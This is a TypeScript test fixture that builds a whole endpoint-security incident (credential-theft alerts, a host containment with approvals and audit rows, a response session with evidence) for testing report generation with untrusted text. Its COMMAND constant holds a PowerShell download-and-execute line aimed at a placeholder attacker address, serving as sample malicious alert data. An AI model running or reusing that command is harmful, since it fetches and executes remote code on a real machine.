/** One whole incident: detections, an isolation, a session with evidence. Every foreign text can be made hostile. */
import { Alerts, type Alert } from "../../src/falcon/endpoints/alert.ts";
import { HOUR, MINUTE } from "../../src/lib/clock.ts";
import { untrusted } from "../../src/lib/untrusted.ts";
import type { Material } from "../../src/report/collect.ts";
import type { Evidence, SessionRecord } from "../../src/report/ports.ts";
import type { AuditBody, AuditRow } from "../../src/store/rows.ts";
import {
  approvalRow,
  containmentRow,
  executionRow,
  targetSnapshot,
  THEN,
  voteRow,
} from "../fixtures/rows.ts";
import { deviceOf } from "../hosts/devices.ts";

export const DEVICE = "0123456789abcdef0123456789abcdef";
export const REQUEST = "k3j4m5n6p7q8";
export const SESSION = "s3s4s5s6s7s8s9sa";
export const SHA256 = "ab".repeat(32);
export const COMMAND =
  'powershell -nop -c "iwr http://198.51.100.9:8080/a.ps1 | iex; ping 203.0.113.7; ping 10.1.2.3" # https://evil.example/x?y=1';

/** What is put wherever an endpoint, a person or a product could write. */
export interface Words {
  readonly name: string;
  readonly line: string;
}

const CALM: Words = { name: "WIN-FIN-07", line: "beaconing to a known address" };

export function alertOf(
  { n = 1, ...changes }: Readonly<Record<string, unknown>> & { readonly n?: number } = {},
  { name }: Words = CALM,
): Alert {
  const [alert] = Alerts.parse({
    resources: [
      {
        composite_id: `${"c".repeat(32)}:ind:${DEVICE}:${n}-10113-9`,
        name: "CredentialTheft",
        display_name: name === CALM.name ? "Credential theft" : name,
        severity: 90,
        severity_name: "Critical",
        status: "new",
        timestamp: new Date(THEN).toISOString(),
        created_timestamp: new Date(THEN + 1_000).toISOString(),
        tactic: "Credential Access",
        technique: "OS Credential Dumping",
        technique_id: "T1003",
        user_name: name === CALM.name ? "ana.diaz" : name,
        filename: "a.exe",
        filepath: "C:\\Users\\Public\\a.exe",
        sha256: SHA256,
        cmdline: COMMAND,
        pattern_disposition_description: "Detection, standard detection.",
        device: { device_id: DEVICE, hostname: name, os_version: "Windows 11" },
        parent_details: { filename: "winword.exe", cmdline: "winword.exe /n", sha256: "cd".repeat(32) },
        ...changes,
      },
    ],
  });
  if (alert === undefined) throw new Error("no alert was read");
  return alert;
}

let seq = 0;
const line = (at: number, body: AuditBody): AuditRow => ({ seq: (seq += 1), at, body, hash: "" });

export function sessionOf(
  { name, line: words }: Words = CALM,
  evidence: Partial<Evidence> = {},
): SessionRecord {
  const by = untrusted(name === CALM.name ? "Ana Diaz" : name);
  return {
    id: SESSION,
    deviceIds: [DEVICE],
    hostname: untrusted(name),
    owner: by,
    state: "closed",
    openedAt: THEN + 8 * MINUTE,
    closedAt: THEN + 30 * MINUTE,
    commands: [
      { id: "e1", seq: 1, at: THEN + 9 * MINUTE, by, command: untrusted("ps"), state: "done" },
      { id: "e2", seq: 2, at: THEN + 12 * MINUTE, by, command: untrusted(`get ${words}`), state: "failed" },
    ],
    evidence: [
      {
        id: "v1",
        deviceId: DEVICE,
        hostname: untrusted(name),
        path: untrusted(name === CALM.name ? "C:\\Users\\Public\\a.exe" : words),
        by,
        state: "stored",
        sizeBytes: 20_480,
        sha256: SHA256,
        hashCheck: "matches",
        archiveSha256: "ef".repeat(32),
        at: THEN + 14 * MINUTE,
        ...evidence,
      },
    ],
  };
}

/** The lines of the audit begin at 1 again. */
export function incident(changes: Partial<Material> = {}, words: Words = CALM): Material {
  seq = 0;
  const name = untrusted(words.name);
  const reason = untrusted(words.line);
  const who = { actor: "ana", actorName: untrusted(words === CALM ? "Ana Diaz" : words.name) };
  const about = { approval: REQUEST, devices: [DEVICE], hostnames: [name] };
  const approval = approvalRow({
    id: REQUEST,
    reason,
    requesterName: who.actorName,
    state: "done",
    targets: [targetSnapshot({ id: DEVICE, hostname: name })],
    createdAt: THEN + 2 * MINUTE,
    finishedAt: THEN + 6 * MINUTE,
  });
  const device = {
    ...deviceOf({ id: DEVICE, hostname: words.name, status: "contained" }),
    lastUser: untrusted(words.name),
  };
  return {
    subject: { kind: "host", id: DEVICE, device },
    period: { from: THEN - 2 * HOUR, to: THEN + HOUR },
    hosts: [{ id: DEVICE, device, online: "online" }],
    alerts: [
      alertOf({}, words),
      alertOf(
        { n: 2, severity_name: "High", severity: 70, timestamp: new Date(THEN + MINUTE).toISOString() },
        words,
      ),
    ],
    alertsTotal: 2,
    requests: [
      {
        approval,
        votes: [voteRow(REQUEST, { reason, at: THEN + 4 * MINUTE })],
        executions: [
          executionRow(REQUEST, {
            id: "x1",
            targetId: DEVICE,
            targetName: name,
            state: "verified",
            updatedAt: THEN + 6 * MINUTE,
          }),
        ],
        containments: [
          containmentRow(REQUEST, {
            id: "h1",
            deviceId: DEVICE,
            hostname: name,
            containedAt: THEN + 5 * MINUTE,
          }),
        ],
      },
    ],
    audit: [
      line(THEN + 2 * MINUTE, {
        event: "approval.requested",
        ...who,
        ...about,
        detail: { kind: "contain", reason },
      }),
      line(THEN + 4 * MINUTE, {
        event: "approval.approve",
        actor: "lee",
        actorName: untrusted("Lee Chan"),
        ...about,
        detail: { reason },
      }),
      line(THEN + 4 * MINUTE, {
        event: "execution.calling",
        actor: "falconer",
        ...about,
        detail: { kind: "contain", target: DEVICE },
      }),
      line(THEN + 5 * MINUTE, {
        event: "execution.reached",
        actor: "falconer",
        ...about,
        detail: { kind: "contain", target: DEVICE },
      }),
      line(THEN + 6 * MINUTE, {
        event: "execution.verified",
        actor: "falconer",
        ...about,
        detail: { kind: "contain", target: DEVICE },
      }),
      line(THEN + 6 * MINUTE, { event: "approval.done", actor: "falconer", ...about }),
    ],
    sessions: [sessionOf(words)],
    groups: [{ id: "g1", place: "slack:C0SOC", alerts: 2, openedAt: THEN + 2_000 }],
    gaps: [],
    ...changes,
  };
}
